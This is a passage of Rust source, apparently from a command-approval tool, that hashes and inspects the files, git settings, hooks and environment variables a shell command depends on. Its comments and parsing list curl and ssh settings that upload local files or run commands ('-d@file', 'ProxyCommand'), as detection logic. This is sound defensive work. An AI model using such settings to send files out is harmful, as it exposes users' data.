//! What a command's doing depends on besides its text, for the host to weigh and for an approval to be bound to: the files
//! whose code it would run, and, where it uses the network, the files that it reads and those that say where it sends. It can
//! only make the answer stricter: the container says it, so a harmless text proves nothing.

use std::collections::{BTreeMap, BTreeSet};
use std::io::Read as _;
use std::os::unix::fs::MetadataExt as _;
use std::path::{Path, PathBuf};

use bashgate_shared::classify::git_config;
use bashgate_shared::classify::{Condition, Effects, paths};
use bashgate_shared::command::Digest;
use bashgate_shared::programs::{self, settings};
use bashgate_shared::protocol::{FileEvidence, MAX_EVIDENCE, MAX_HEAD_BYTES};
use bashgate_shared::variables::{self, Steers};

use super::conditions::{self, place};
use super::{ask, git, words};

/// Largest file whose digest is made, in bytes. A larger one is named without.
const MAX_FILE: u64 = 8 * 1024 * 1024;
/// Most files that are looked at; what has more has one entry without a digest.
const MAX_FILES: usize = 1000;
/// Most bytes of all files together that are hashed; what comes behind them is told by its length and time.
const MAX_ALL: u64 = 64 << 20;
/// How programs and archives of them begin, of which a start says nothing.
const PROGRAMS: [&[u8]; 6] = [b"\x7fELF", b"\xcf\xfa\xed\xfe", b"\xca\xfe\xba\xbe", b"MZ", b"PK\x03\x04", b"\x1f\x8b"];
/// How the entry for folders of PATH begins.
const PROGRAMS_IN: &str = "the programs in ";
/// Longest text that may be the name of a file, in bytes.
const MAX_NAME: usize = 4096;
/// How the entry for variables begins.
const ENVIRONMENT: &str = "the environment's ";
/// Longest file that is read for what it includes, in bytes.
const MAX_SETTINGS: u64 = 256 * 1024;
/// Most remotes that settings name as those that are used.
const MAX_USUAL: usize = 1000;
/// Most words of what is handed over that are looked at as names of files.
const MAX_WORDS: usize = 1000;
/// Most pieces of one file of settings that are looked at as names of files.
const MAX_PIECES: usize = 20_000;
/// Most names below a folder that is sent as a whole.
const MAX_TREE: usize = 200_000;
/// Deepest folder of submodules that is looked at.
const MAX_DEPTH: usize = 12;

/// The evidence for one command, of whose words some may name a remote of git. Files that are not there, or are no plain files, say nothing; where there are more than the
/// protocol allows, the last entry stands for all of the rest.
pub fn of(words: &BTreeSet<String>, effects: &Effects, conditions: &[Condition], cwd: &Path) -> Vec<FileEvidence> {
    let leaves = !effects.network.is_empty();
    let mut all = Gathered { remotes: words.clone(), ..Gathered::new(cwd) };
    for path in &effects.runs {
        all.add(path, Told::Head);
    }
    // Whoever can put another one there chooses what the name means.
    for program in conditions::others_programs(effects, cwd) {
        all.add(&program.to_string_lossy(), Told::Digest);
    }
    all.found.extend(others_folders(cwd));
    let mut rows: Vec<_> = effects.programs.iter().filter_map(|program| programs::row(program)).collect();
    // `python3 -m pip` is `pip` by another name.
    if words.contains("-m") {
        rows.extend(words.iter().filter_map(|word| programs::row(word)).filter(|row| !row.configured_by.is_empty()));
    }
    let account = account_home();
    for name in rows.iter().flat_map(|row| row.configured_by).flat_map(|name| places_of(name, account.as_deref(), cwd))
    {
        all.add_with_included(&name);
        all.add_settings(&name);
        all.add_folder(&name);
    }
    all.add_git(effects);
    all.add_reads(effects);
    // What only looks through a folder shows what lies there now. What sends it, keeps it for later or is a program that nobody
    // knows is asked about for what lies there.
    let keeps = [&effects.persistence, &effects.steering, &effects.tampering].iter().any(|list| !list.is_empty());
    if leaves || keeps || effects.programs.iter().any(|program| programs::row(program).is_none()) {
        all.add_folders(effects, conditions);
    }
    if leaves && effects.reads_unknown {
        all.found.push(unknown("files whose names are only known when it runs"));
    }
    let steering = steering_variables(&rows);
    let at_home: Vec<&str> =
        rows.iter().flat_map(|row| row.configured_by).filter_map(|name| name.strip_prefix("~/")).collect();
    // Many of them name the same bundle of certificates.
    let mut values: BTreeMap<&str, bool> = BTreeMap::new();
    for (name, value) in &steering {
        // Whatever names code is bound as it is; what says where something goes may name more.
        let may_name = variables::leads_network(name) || is_of_a_row(name, &rows);
        *values.entry(value).or_default() |= may_name && !variables::names_certificates(name);
    }
    for (value, names_more) in values {
        // A file, several of them, or a command line that names some; a folder stands for the home folder.
        let words: Vec<&str> = words::of(value).flat_map(|word| word.split(':').chain([word])).collect();
        // The first word counts as well, as it does not where a command stands.
        for file in words::files(&[&[""], words.as_slice()].concat(), &[cwd]) {
            if names_more {
                all.add_with_included(&file.to_string_lossy());
            } else {
                all.add(&file.to_string_lossy(), Told::Digest);
            }
        }
        for word in
            words.iter().filter(|_| names_more).filter(|word| place(word, cwd).is_some_and(|place| place.is_dir()))
        {
            for inside in at_home.iter().chain(&["curlrc"]) {
                all.add_with_included(&format!("{}/{inside}", word.trim_end_matches('/')));
            }
        }
    }
    all.found.extend(environment(&steering));
    all.folded()
}

/// What git would send besides what it is told to: the commits of its branches and tags, and, where the command makes some first,
/// the files and the index that they are made from. An answer for a session is for those that come later, too; so the hook looks
/// at them before and behind its question, and the host is not told.
pub fn of_commits(effects: &Effects, cwd: &Path) -> Vec<FileEvidence> {
    let mut all = Gathered::new(cwd);
    if effects.network.is_empty() || !effects.programs.iter().any(|program| program == "git") {
        return Vec::new();
    }
    let makes = effects.git.iter().any(|subcommand| programs::records(subcommand));
    let folders = folders_of_git(effects).into_iter().filter_map(|folder| place(&folder, cwd));
    for repository in folders.flat_map(|folder| git::repositories(&folder).unwrap_or_default()) {
        let inside = |name: &str| repository.common.join(name).to_string_lossy().into_owned();
        all.add(&inside("packed-refs"), Told::Digest);
        for name in ["refs/heads", "refs/tags", "refs/notes", "reftable"] {
            all.add_folder(&inside(name));
        }
        if makes {
            all.add(&repository.git_dir.join("index").to_string_lossy(), Told::Digest);
            // Not what git keeps for itself, which everything changes.
            let inside = std::fs::read_dir(&repository.root).into_iter().flatten().flatten();
            for entry in inside.filter(|entry| entry.file_name() != ".git").take(MAX_FILES) {
                all.add_folder(&entry.path().to_string_lossy());
            }
        }
    }
    all.folded()
}

/// The files and folders that a call of another tool reads, or that what it hands over names, as they lie there now.
pub fn of_reads(effects: &Effects, sent: &str, cwd: &Path) -> Vec<FileEvidence> {
    let mut all = Gathered::new(cwd);
    for path in effects.reads.iter().chain(&effects.named) {
        all.add(path, Told::Digest);
    }
    for name in names_in_input(sent) {
        match place(&name, cwd) {
            // The whole of a project, or of the machine, is more than anybody hands over by a call.
            Some(file) if file.is_dir() && !cwd.starts_with(&file) => all.add_folder(&name),
            Some(file) if file.is_file() => all.add(&file.to_string_lossy(), Told::Digest),
            _ => {}
        }
    }
    all.folded()
}

/// What the input of a tool may name as files: a whole text, or a word of one. It may have been too long to be kept as what it was.
pub fn names_in_input(sent: &str) -> Vec<String> {
    let texts: Vec<String> = serde_json::from_str(sent).map_or_else(|_| Vec::new(), |value| texts_of(&value));
    let mut names: Vec<String> = texts.iter().take(MAX_WORDS).flat_map(|text| as_names(text)).collect();
    // A word in a text is a file at most: a folder's name is a word like any other.
    let may_be_file = |word: &&str| word.contains(['/', '.']) && !word.ends_with('/') && !word.ends_with('.');
    names.extend(words::of(sent).filter(may_be_file).take(MAX_WORDS).map(str::to_owned));
    names.sort();
    names.dedup();
    names
}

/// The texts in a value.
fn texts_of(value: &serde_json::Value) -> Vec<String> {
    match value {
        serde_json::Value::String(text) => vec![text.clone()],
        serde_json::Value::Array(values) => values.iter().flat_map(texts_of).collect(),
        serde_json::Value::Object(fields) => fields.values().flat_map(texts_of).collect(),
        _ => Vec::new(),
    }
}

/// What a text may name as a file or a folder: itself, without a scheme, the mark of a mention or what a pattern begins with.
fn as_names(text: &str) -> Vec<String> {
    if text.is_empty() || text.len() > MAX_NAME || text.contains('\n') {
        return Vec::new();
    }
    let bare = text.trim().trim_start_matches('@');
    let path = paths::of_address(bare).unwrap_or(bare);
    let mut names = vec![text.to_owned(), path.to_owned(), programs::percent_decoded(path)];
    if !path.contains(char::is_whitespace)
        && let Some((start, _)) = path.split_once(['*', '?', '[', '{'])
        && let Some((folder, _)) = start.rsplit_once('/').filter(|(folder, _)| !folder.is_empty())
    {
        names.push(folder.to_owned());
    }
    names.dedup();
    names
}

/// The folders in which a command calls git.
fn folders_of_git(effects: &Effects) -> Vec<String> {
    if effects.git_in.is_empty() { vec![".".to_owned()] } else { effects.git_in.clone() }
}

/// What lies in the folders of PATH that others than root can write: a program may start any other by its name.
fn others_folders(cwd: &Path) -> Option<FileEvidence> {
    let folders = conditions::others_folders(cwd);
    let mut lines = Vec::new();
    for folder in &folders {
        let entries = std::fs::read_dir(folder);
        if let Err(error) = &entries {
            lines.push(format!("{}\0{}\n", folder.display(), error.kind()));
        }
        for entry in entries.into_iter().flatten().flatten().take(MAX_TREE) {
            let state =
                std::fs::metadata(entry.path()).map_or_else(|error| error.kind().to_string(), |meta| state_of(&meta));
            lines.push(format!("{}\0{state}\n", entry.path().to_string_lossy()));
        }
    }
    lines.sort();
    let named: Vec<String> = folders.iter().take(4).map(|folder| folder.to_string_lossy().into_owned()).collect();
    let path: String = format!("{PROGRAMS_IN}{}", named.join(", ")).chars().take(1024).collect();
    let sha256 = Digest::of(lines.concat().as_bytes()).hex();
    (!folders.is_empty()).then(|| FileEvidence { path, sha256, head: String::new() })
}

/// What any change of a file changes, as far as the system tells.
fn state_of(meta: &std::fs::Metadata) -> String {
    format!("{} {} {} {}", meta.len(), meta.ino(), meta.ctime(), meta.ctime_nsec())
}

/// What has been found so far, and how many more bytes may be hashed.
struct Gathered<'c> {
    found: Vec<FileEvidence>,
    room: u64,
    cwd: &'c Path,
    /// Where what was found lies.
    places: BTreeSet<PathBuf>,
    /// What more there is than is looked at one by one, a line each.
    more: Vec<String>,
    /// The words of the command, and what its repositories go to by themselves: the remotes among them are told first.
    remotes: BTreeSet<String>,
}

impl<'c> Gathered<'c> {
    const fn new(cwd: &'c Path) -> Self {
        Self {
            found: Vec::new(),
            room: MAX_ALL,
            cwd,
            places: BTreeSet::new(),
            more: Vec::new(),
            remotes: BTreeSet::new(),
        }
    }

    /// As many as the protocol takes; the last one stands for the rest.
    fn folded(self) -> Vec<FileEvidence> {
        folded(self.found, &self.more)
    }

    /// What is read by name.
    fn add_reads(&mut self, effects: &Effects) {
        let cwd = self.cwd;
        for path in effects.reads.iter().chain(&effects.named) {
            match path.rsplit_once('/').filter(|(_, name)| name.contains('*')) {
                None => self.add_with_included(path),
                // What a loop goes through.
                Some((folder, name)) => {
                    let (start, end) = name.split_once('*').unwrap_or((name, ""));
                    match names_in(folder, start, end, cwd) {
                        Some(names) => names.iter().for_each(|name| self.add_with_included(name)),
                        None => self.add_folder(folder),
                    }
                }
            }
        }
    }

    /// What is read with everything in it, or by a pattern.
    fn add_folders(&mut self, effects: &Effects, conditions: &[Condition]) {
        let cwd = self.cwd;
        let is_folder = |path: &&String| place(path, cwd).is_some_and(|place| place.is_dir());
        let named = effects.reads.iter().chain(&effects.named).filter(is_folder);
        let mut folders: Vec<&str> = named.map(String::as_str).collect();
        for condition in conditions {
            match condition {
                Condition::NoSecretNamed { folder, start, end } => match names_in(folder, start, end, cwd) {
                    Some(names) => names.iter().for_each(|name| self.add(name, Told::Digest)),
                    None => folders.push(folder),
                },
                Condition::NoSecretBelow { folder } => folders.push(folder),
                _ => {}
            }
        }
        folders.sort_unstable();
        folders.dedup();
        for folder in folders {
            self.add_folder(folder);
        }
    }

    fn add(&mut self, name: &str, told: Told) {
        let Some(file) = place(name, self.cwd) else { return };
        // By another spelling it is the same file.
        if !self.places.insert(file.clone()) {
            return;
        }
        if self.found.len() >= MAX_FILES {
            let state = std::fs::metadata(&file).map(|meta| state_of(&meta)).unwrap_or_default();
            self.more.push(format!("{name}\0{state}"));
            return;
        }
        match std::fs::metadata(&file) {
            // Whoever writes into a pipe says what is read, when it is read.
            Ok(meta) if !meta.is_file() && !meta.is_dir() && !is_no_file_of_anybodys(&file) => {
                let odd = unknown(&format!("{name} (no plain file: what is read is only known when it runs)"));
                if !self.found.contains(&odd) {
                    self.found.push(odd);
                }
            }
            _ => self.found.extend(read(name, &file, told, &self.remotes, &mut self.room)),
        }
    }

    /// A file, and what the settings in it include, if it is one of ssh's or curl's.
    fn add_with_included(&mut self, name: &str) {
        let mut waiting = vec![name.to_owned()];
        while let Some(name) = waiting.pop() {
            if self.found.iter().any(|file| file.path == name) {
                continue;
            }
            self.add(&name, Told::Digest);
            let Some(text) = self.settings_in(&name) else { continue };
            let mut included = included(&text);
            let names_too_much = included.len() > MAX_PIECES;
            // A certificate's mark stands there a hundred times.
            included.sort_unstable();
            included.dedup();
            for included in included.into_iter().take(MAX_PIECES) {
                if names_too_much || self.found.len() >= MAX_FILES || waiting.len() >= MAX_FILES {
                    self.found.push(unknown(&format!("all that {name} names")));
                    return;
                }
                match included.split_once(['*', '?', '[']) {
                    None if place(&included, self.cwd).is_none_or(|file| !file.exists()) => {}
                    None => waiting.push(included),
                    // As people write it: all files of a folder, or those of one kind.
                    Some((folder, end)) if folder.ends_with('/') && !end.contains(['*', '?', '[', '/']) => {
                        let files = place(folder, self.cwd).map(|folder| files_of(&folder)).unwrap_or_default();
                        let files = files.iter().map(|file| file.to_string_lossy().into_owned());
                        waiting.extend(files.filter(|file| file.ends_with(end)));
                    }
                    Some(_) if !included.contains('/') => {}
                    Some(_) => self.found.push(unknown(&format!("files that {name} includes: {included}"))),
                }
            }
        }
    }

    /// Everything below a folder, where there is one; a file by itself.
    fn add_folder(&mut self, name: &str) {
        if self.found.iter().any(|file| file.path == below(name)) {
            return;
        }
        match place(name, self.cwd) {
            Some(place) if place.is_dir() => self.found.push(tree(name, &place, &mut self.room)),
            Some(_) => self.add(name, Told::Digest),
            None => {}
        }
    }

    /// The start of a file of settings, as far as it is read for what it names.
    fn settings_in(&self, name: &str) -> Option<String> {
        let file = place(name, self.cwd).filter(|file| file.is_file())?;
        let mut bytes = Vec::new();
        std::fs::File::open(file).ok()?.take(MAX_SETTINGS).read_to_end(&mut bytes).ok()?;
        Some(String::from_utf8_lossy(&bytes).into_owned())
    }

    /// What a client's settings say of where it sends and what, a line each. No answer for more than once is bound to such.
    fn add_settings(&mut self, name: &str) {
        let Some(steers) = settings::of(name) else { return };
        let Some(text) = self.settings_in(name) else { return };
        let Some(file) = self.found.iter_mut().find(|file| file.path == name) else { return };
        let lines: Vec<&str> = text.lines().map(str::trim).filter(|line| steers(line)).collect();
        file.head = start_of(lines.join("\n").as_bytes());
        if lines.iter().any(|line| settings::brings_more(name, line)) {
            self.found.push(unknown(&format!("what {name} adds to the request")));
        }
    }

    /// The settings of every repository in which git talks to a remote.
    fn add_git(&mut self, effects: &Effects) {
        if !effects.programs.iter().any(|program| program == "git") {
            return;
        }
        let leaves = !effects.network.is_empty();
        let told = if leaves { Told::Remotes } else { Told::Digest };
        let folders = folders_of_git(effects);
        // Without a digest: such an answer is for once.
        let mut is_unknown = folders.iter().any(|folder| folder == "?");
        for folder in folders.iter().filter_map(|folder| place(folder, self.cwd)) {
            let repositories = git::repositories(&folder);
            is_unknown |= repositories.is_err();
            let repositories = repositories.unwrap_or_default();
            self.remotes.extend(repositories.iter().flat_map(usual_remotes));
            let inside = repositories.iter().flat_map(git::Repository::files);
            for file in inside.chain(git::files_outside()) {
                self.add(&file.to_string_lossy(), told);
            }
            // The branch that is checked out says what goes where.
            for repository in repositories.iter().filter(|_| leaves) {
                self.add(&repository.git_dir.join("HEAD").to_string_lossy(), Told::Digest);
            }
            // Hooks that it runs on the way are code.
            for file in repositories.iter().flat_map(|repository| files_of(&repository.common.join("hooks"))) {
                self.add(&file.to_string_lossy(), Told::Head);
            }
            // What settings include, and remotes of the older forms.
            let more = repositories
                .iter()
                .flat_map(|repository| ["remotes", "branches"].map(|name| repository.common.join(name)));
            let named = git::named::for_remotes(&folder).ok().flatten();
            is_unknown |= named.is_none();
            for path in more.chain(named.unwrap_or_default()) {
                for file in files_of(&path) {
                    // What may be executed is more likely a hook or a helper than settings.
                    let is_code = std::fs::metadata(&file).is_ok_and(|meta| meta.mode() & 0o111 != 0);
                    self.add(&file.to_string_lossy(), if is_code { Told::Head } else { told });
                }
            }
            // What git shows of a repository may be what another program sends.
            let sends = effects.network.iter().any(|used| used.program != "git");
            for repository in repositories.iter().filter(|_| sends) {
                self.add_folder(&repository.root.to_string_lossy());
                if !repository.common.starts_with(&repository.root) {
                    self.add_folder(&repository.common.to_string_lossy());
                }
            }
            for repository in &repositories {
                for name in [".lfsconfig", ".gitmodules"] {
                    self.add(&repository.root.join(name).to_string_lossy(), Told::Digest);
                }
                is_unknown |= !self.add_submodules(repository);
            }
        }
        if is_unknown {
            self.found.push(unknown("settings of git that are only known when it runs"));
        }
    }

    /// The settings and hooks of a repository's submodules, which are sent or fetched with it. False where there are more than are
    /// looked at, or some that cannot be read.
    fn add_submodules(&mut self, repository: &git::Repository) -> bool {
        let mut waiting = vec![(repository.common.join("modules"), 0)];
        let mut folders: Vec<PathBuf> = Vec::new();
        let mut seen = 0;
        while let Some((folder, depth)) = waiting.pop() {
            let Ok(entries) = std::fs::read_dir(&folder) else { continue };
            for entry in entries.flatten() {
                seen += 1;
                if seen > MAX_FILES || depth > MAX_DEPTH {
                    return false;
                }
                let path = entry.path();
                if path.is_dir() && entry.file_name() != "objects" {
                    if path.join("HEAD").exists() {
                        folders.push(path.clone());
                    }
                    waiting.push((path, depth + 1));
                }
            }
        }
        // Those of the older form, with a repository of their own in the working tree.
        let listed = std::fs::read_to_string(repository.root.join(".gitmodules")).unwrap_or_default();
        let paths = listed.lines().filter_map(|line| line.trim().strip_prefix("path")?.trim_start().strip_prefix('='));
        folders.extend(
            paths
                .map(|path| repository.root.join(path.trim().trim_matches('"')).join(".git"))
                .filter(|git| git.is_dir()),
        );
        for folder in folders {
            for file in [folder.join("config"), folder.join("config.worktree")] {
                self.add(&file.to_string_lossy(), Told::Remotes);
            }
            for file in files_of(&folder.join("hooks")) {
                self.add(&file.to_string_lossy(), Told::Digest);
            }
        }
        true
    }
}

/// Where settings may lie: those without a folder in front in the folder where a program starts and in each above it, those of the
/// home folder also in the account's own where they are ssh's, which goes by that whatever `HOME` says.
fn places_of(name: &str, account: Option<&Path>, cwd: &Path) -> Vec<String> {
    if name.starts_with('/') {
        return vec![name.to_owned()];
    }
    if let Some(inside) = name.strip_prefix("~/") {
        let own = account.filter(|_| inside.starts_with(".ssh/"));
        let own = own.map(|home| home.join(inside).to_string_lossy().into_owned());
        return std::iter::once(name.to_owned()).chain(own).collect();
    }
    cwd.ancestors().map(|folder| folder.join(name).to_string_lossy().into_owned()).collect()
}

/// The home folder of the account, where it is another one than `HOME`.
fn account_home() -> Option<PathBuf> {
    let own = rustix::process::getuid().as_raw().to_string();
    let table = std::fs::read_to_string("/etc/passwd").ok()?;
    let home = table.lines().find_map(|line| match line.split(':').collect::<Vec<_>>().as_slice() {
        [_, _, id, _, _, home, ..] if *id == own => Some(PathBuf::from(home)),
        _ => None,
    });
    home.filter(|home| home.is_absolute() && std::env::var_os("HOME").is_none_or(|set| Path::new(&set) != home))
}

/// True for devices that hold nothing, and what a process has open, which the text names.
fn is_no_file_of_anybodys(file: &Path) -> bool {
    file.starts_with("/dev") || file.starts_with("/proc")
}

/// What an answer cannot be bound to.
fn unknown(what: &str) -> FileEvidence {
    let path = what.chars().take(1024).collect();
    FileEvidence { path, sha256: String::new(), head: String::new() }
}

/// The files that settings of ssh (`Include a b`) or of curl (`config = x`, `-K x`) include, as paths. Any other text may look like
/// it names some, which only binds more.
fn included(text: &str) -> Vec<String> {
    let mut found = Vec::new();
    let mut in_block = false;
    // All of them take this for a comment.
    for line in text.lines().map(str::trim).filter(|line| !line.starts_with('#')) {
        // The digits of certificates and keys name nothing; anything else in such a block may.
        let is_mark = line.starts_with("-----BEGIN ") || line.starts_with("-----END ");
        in_block = if is_mark { line.starts_with("-----BEGIN ") } else { in_block };
        let digits = line.trim_end_matches('=');
        if in_block && !is_mark && digits.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"+/".contains(&byte)) {
            continue;
        }
        let end = line.find(|c: char| c.is_whitespace() || c == '=' || c == ':').unwrap_or(line.len());
        let (key, rest) = line.split_at_checked(end).unwrap_or((line, ""));
        let values = rest.trim_start_matches(|c: char| c.is_whitespace() || c == '=' || c == ':');
        let plain = |value: &str| value.trim_matches(['"', '\'']).to_owned();
        match key.to_ascii_lowercase().trim_start_matches('-') {
            "include" => found.extend(values.split_whitespace().map(plain).map(|value| {
                // ssh_config(5): relative to the folder of the user's settings.
                if value.starts_with(['/', '~']) { value } else { format!("~/.ssh/{value}") }
            })),
            "config" | "k" if !values.is_empty() => found.push(plain(values)),
            // `data = n@file`, `form = "x=@file;y"`, `-d@file`, `post_file = file`, `ProxyCommand sh file %h`: each piece that is
            // the name of a file may be meant.
            _ => {
                let words = line.split_whitespace().chain([values]);
                let glued = |word: &str| word.strip_prefix('-').and_then(|word| word.get(1..)).map(str::to_owned);
                let pieces = words.flat_map(|word| {
                    let divided = word.split(|c: char| "@=<\"';,|&()".contains(c)).map(str::to_owned);
                    let behind = word.split_once('@').map(|(_, path)| plain(path));
                    divided.chain(behind).chain(glued(word)).chain([plain(word)]).collect::<Vec<_>>()
                });
                found.extend(pieces.filter(|piece| !piece.is_empty() && (piece == "#" || !piece.starts_with('#'))));
            }
        }
        if let Some(glued) = line.strip_prefix("-K").filter(|glued| !glued.is_empty() && !glued.starts_with(' ')) {
            found.push(plain(glued));
        }
    }
    found
}

/// As many as the protocol takes; the last one stands for the rest.
fn folded(mut found: Vec<FileEvidence>, more: &[String]) -> Vec<FileEvidence> {
    if found.len() <= MAX_EVIDENCE && more.is_empty() {
        return found;
    }
    let is_all = found.iter().all(|file| !file.sha256.is_empty());
    let rest = found.split_off(found.len().min(MAX_EVIDENCE - 1));
    let mut lines: Vec<String> = rest.iter().map(|file| format!("{}\0{}", file.path, file.sha256)).collect();
    lines.extend_from_slice(more);
    let digest = Digest::of(lines.join("\n").as_bytes()).hex();
    // Where one of them has no digest, nor has the rest; what is told of it differs all the same.
    let (sha256, path) = if is_all {
        (digest, format!("{} more files", lines.len()))
    } else {
        (String::new(), format!("{} more files ({})", lines.len(), digest.get(..16).unwrap_or_default()))
    };
    found.push(FileEvidence { path, sha256, head: String::new() });
    found
}

/// The files of a folder that a pattern means, as the classifier names them.
///
/// None where there are more than are looked at.
fn names_in(folder: &str, start: &str, end: &str, cwd: &Path) -> Option<Vec<String>> {
    let Some(place) = place(folder, cwd) else { return Some(Vec::new()) };
    let entries = std::fs::read_dir(place).into_iter().flatten().flatten();
    let names = entries.filter_map(|entry| entry.file_name().into_string().ok());
    let is_meant =
        |name: &String| name.len() >= start.len() + end.len() && name.starts_with(start) && name.ends_with(end);
    let meant = names.filter(is_meant).map(|name| format!("{folder}/{name}"));
    let mut names: Vec<String> = meant.take(MAX_FILES + 1).collect();
    names.sort();
    (names.len() <= MAX_FILES).then_some(names)
}

/// What the entry for everything below a folder is called.
fn below(folder: &str) -> String {
    format!("{}/ (all of it)", folder.trim_end_matches('/'))
}

/// Everything below a folder: names, lengths and times, and what the files hold as long as there is room: whoever has one mapped
/// into memory can change it without changing its times. Too much has no digest.
fn tree(folder: &str, root: &Path, room: &mut u64) -> FileEvidence {
    let mut lines = Vec::new();
    let (mut seen, mut files) = (std::collections::HashSet::new(), Vec::new());
    let mut waiting = vec![root.to_owned()];
    while let Some(inner) = waiting.pop() {
        let entries = std::fs::read_dir(&inner);
        if let Err(error) = &entries {
            lines.push(format!("{}\0{}\n", inner.to_string_lossy(), error.kind()));
        }
        for entry in entries.into_iter().flatten().flatten() {
            if lines.len() >= MAX_TREE {
                return FileEvidence { path: below(folder), sha256: String::new(), head: String::new() };
            }
            let Ok(mut meta) = entry.metadata() else { continue };
            let path = entry.path();
            if meta.is_symlink() {
                let name = path.strip_prefix(root).unwrap_or(&path).to_string_lossy().into_owned();
                lines.push(format!("{name}\0link {} {} {}\n", meta.ino(), meta.ctime(), meta.ctime_nsec()));
                // Whoever follows it sees what is there now.
                let Ok(there) = std::fs::metadata(&path) else { continue };
                meta = there;
            }
            if meta.is_dir() {
                if !seen.insert((meta.dev(), meta.ino())) {
                    continue;
                }
                waiting.push(path.clone());
            }
            let name = path.strip_prefix(root).unwrap_or(&path).to_string_lossy().into_owned();
            lines.push(format!("{name}\0{}\n", state_of(&meta)));
            if meta.is_file() {
                files.push((path, meta.len()));
            }
        }
    }
    files.sort();
    for (file, length) in files {
        // Where a link leads is what is read.
        let Ok(file) = file.canonicalize() else { continue };
        if length > MAX_FILE.min(*room) || is_no_file_of_anybodys(&file) {
            continue;
        }
        // However long it says that it is: some files of the system have no end.
        let mut bytes = Vec::new();
        let opened = ask::open_plain(&file).and_then(|open| open.take(length).read_to_end(&mut bytes));
        *room = room.saturating_sub(length);
        let told = opened.map_or_else(|error| error.kind().to_string(), |_| Digest::of(&bytes).hex());
        lines.push(format!("{}\0{told}\n", file.to_string_lossy()));
    }
    lines.sort();
    let sha256 = Digest::of(lines.concat().as_bytes()).hex();
    FileEvidence { path: below(folder), sha256, head: String::new() }
}

/// The variables that say where the network's programs send: proxies, git's, what steers the shell and all programs, and what
/// their rows name.
fn steering_variables(rows: &[&programs::Program]) -> Vec<(String, String)> {
    let steers = |name: &str| {
        // What differs from one call to the next and leads nowhere.
        let is_told = name != "HOME" && !name.starts_with("SSH_") || name.starts_with("SSH_ASKPASS");
        // Where programs look for things and which language they speak is no code, and in each environment.
        let is_code = || matches!(variables::steers(name), Some(Steers::Code));
        is_told && (variables::leads_network(name) || is_code()) || is_of_a_row(name, rows)
    };
    let found = std::env::vars_os().filter_map(|(name, value)| Some((name.into_string().ok()?, value)));
    let mut set: Vec<(String, String)> = found
        .filter(|(name, _)| steers(name))
        .map(|(name, value)| (name, value.to_string_lossy().into_owned()))
        .collect();
    set.sort();
    set
}

/// True for a variable that one of these rows names.
fn is_of_a_row(name: &str, rows: &[&programs::Program]) -> bool {
    rows.iter().any(|row| row.environment.contains(&name))
}

/// What they are set to.
fn environment(set: &[(String, String)]) -> Option<FileEvidence> {
    // Their values may hold a password; whoever looks at a card sees which they are.
    let names: Vec<&str> = set.iter().map(|(name, _)| name.as_str()).take(8).collect();
    let lines: Vec<String> = set.iter().map(|(name, value)| format!("{name}={value}")).collect();
    let sha256 = Digest::of(lines.join("\n").as_bytes()).hex();
    (!set.is_empty()).then(|| FileEvidence {
        path: format!("{ENVIRONMENT}{}", names.join(", ")),
        sha256,
        head: String::new(),
    })
}

/// A file, or the files of a folder in the order of their names, without git's samples.
fn files_of(path: &Path) -> Vec<PathBuf> {
    if path.is_file() {
        return vec![path.to_owned()];
    }
    let entries = std::fs::read_dir(path).into_iter().flatten().flatten().map(|entry| entry.path());
    let is_meant = |file: &PathBuf| file.is_file() && file.extension().is_none_or(|end| end != "sample");
    let mut files: Vec<PathBuf> = entries.filter(is_meant).take(MAX_TREE).collect();
    files.sort();
    files
}

/// What is told of a file besides its digest.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Told {
    /// How it begins.
    Head,
    /// What it says of where git sends.
    Remotes,
    /// Nothing.
    Digest,
}

/// What git goes to where the command names no remote: by the branch that is checked out.
fn usual_remotes(repository: &git::Repository) -> Vec<String> {
    let text = |file: &Path| git::read_text(file).unwrap_or_default();
    let head = text(&repository.git_dir.join("HEAD"));
    let branch = head.trim().strip_prefix("ref: refs/heads/").unwrap_or_default().to_owned();
    let settings = repository.files().into_iter().filter_map(|file| git::config::read(&text(&file))).flatten();
    let is_usual = |key: &str| {
        let lower = key.to_ascii_lowercase();
        lower == "remote.pushdefault" || git_config::is_of_branch(key, &branch)
    };
    let usual = settings.filter(|setting| is_usual(&setting.key)).map(|setting| setting.value);
    let mut all: Vec<String> = usual.collect();
    // The last one counts.
    all.drain(..all.len().saturating_sub(MAX_USUAL));
    all.extend([branch, "origin".to_owned()]);
    all
}

/// The settings by which git finds out where it sends, a line each: first those that change what a remote's address says.
fn remotes(text: &str, named: &BTreeSet<String>) -> String {
    let Some(settings) = git::config::read(text) else {
        return "(settings that are not understood here; git may understand them)\n".to_owned();
    };
    // What people and git take for different keys is shown as what it is.
    let shown = |text: &str| {
        let is_plain = |c: char| c.is_ascii_graphic() && !"\"\\".contains(c);
        if text.chars().all(is_plain) { text.to_owned() } else { format!("{text:?}") }
    };
    let says = |setting: &&git::config::Setting| git_config::says_where(&setting.key, &setting.value);
    let mut lines: Vec<_> = settings.iter().filter(says).collect();
    // What is used stands in front of what is not, however much of that there is.
    lines.sort_by_cached_key(|setting| git_config::rank(&setting.key, &setting.value, named));
    lines
        .into_iter()
        .flat_map(|setting| [shown(&setting.key), " = ".to_owned(), setting.value.clone(), "\n".to_owned()])
        .collect()
}

fn read(name: &str, file: &Path, told: Told, named: &BTreeSet<String>, room: &mut u64) -> Option<FileEvidence> {
    // Opening a FIFO would wait for whoever writes it.
    let meta = std::fs::metadata(file).ok().filter(std::fs::Metadata::is_file)?;
    let mut bytes = Vec::new();
    let whole = meta.len() <= MAX_FILE.min(*room);
    let most = if whole { MAX_FILE } else { MAX_HEAD_BYTES as u64 };
    std::fs::File::open(file).ok()?.take(most).read_to_end(&mut bytes).ok()?;
    *room = room.saturating_sub(bytes.len() as u64);
    let head = match told {
        Told::Head => start_of(&bytes),
        Told::Remotes => start_of(remotes(&String::from_utf8_lossy(&bytes), named).as_bytes()),
        Told::Digest => String::new(),
    };
    let name: String = name.chars().take(1024).collect();
    // What is too long to be read whole is told apart by what any change of it changes.
    let (sha256, path) = if whole {
        (Digest::of(&bytes).hex(), name)
    } else {
        let changed = (meta.ctime(), meta.ctime_nsec());
        (String::new(), format!("{name} ({} bytes, changed at {}.{:09})", meta.len(), changed.0, changed.1))
    };
    Some(FileEvidence { path, sha256, head })
}

/// The first bytes of a text. A program is none; its digest tells which one it is.
fn start_of(bytes: &[u8]) -> String {
    let mut end = bytes.len().min(MAX_HEAD_BYTES);
    // Not in the middle of a character.
